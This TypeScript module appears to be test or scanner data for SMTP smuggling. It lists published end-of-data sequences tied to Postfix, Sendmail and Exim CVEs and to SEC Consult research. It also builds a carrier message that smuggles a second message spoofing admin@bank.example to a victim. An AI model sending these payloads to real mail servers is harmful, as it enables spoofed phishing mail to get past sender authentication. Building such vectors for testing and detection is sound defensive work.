/**
 * The published sequences of SMTP smuggling: what some server, somewhere, takes for the end of a
 * message although it is not CRLF . CRLF (RFC 5321 section 4.1.1.4).
 *
 * From SEC Consult's report and scanner (The-Login/SMTP-Smuggling-Tools) and hannob/smtpsmug. What the
 * advisories of Postfix, Sendmail and Exim are about is LF . CRLF; the others were found with it.
 */
export const vectors = [
  ['CVE-2023-51764 (Postfix), LF . CRLF', '\n.\r\n'],
  ['CVE-2023-51764 (Postfix), CR CRLF . CR CRLF', '\r\r\n.\r\r\n'],
  ['CVE-2023-51765 (Sendmail), LF . CRLF', '\n.\r\n'],
  ['CVE-2023-51766 (Exim), LF . CRLF', '\n.\r\n'],
  ['SEC Consult, LF . LF (Exchange Online, outgoing)', '\n.\n'],
  ['SEC Consult, CR . CR (Cisco Secure Email)', '\r.\r'],
  ['SEC Consult, LF . CR', '\n.\r'],
  ['SEC Consult, CR . LF', '\r.\n'],
  ['SEC Consult, CR . CRLF', '\r.\r\n'],
  ['SEC Consult, CRLF . CR CRLF', '\r\n.\r\r\n'],
  ['SEC Consult, CRLF NUL . CRLF', '\r\n\0.\r\n'],
  ['smtpsmug, CRLF . LF', '\r\n.\n'],
  ['smtpsmug, CRLF . CR', '\r\n.\r'],
  ['smtpsmug, CRLF . NUL CRLF', '\r\n.\0\r\n'],
  ['LF LF . CRLF', '\n\n.\r\n'],
  ['CRLF NUL . CR', '\r\n\0.\r'],
  ['CRLF NUL . LF', '\r\n\0.\n'],
] as const;

/** The commands of a second message, and the message. */
export const smuggled = [
  'MAIL FROM:<admin@bank.example>',
  'RCPT TO:<victim@example.com>',
  'DATA',
  'Subject: smuggled',
  '',
  'smuggled text',
].join('\r\n');

/** A message with another one in it. */
export function carrier(sequence: string): string {
  return `Subject: outer\r\n\r\nouter text${sequence}${smuggled}`;
}
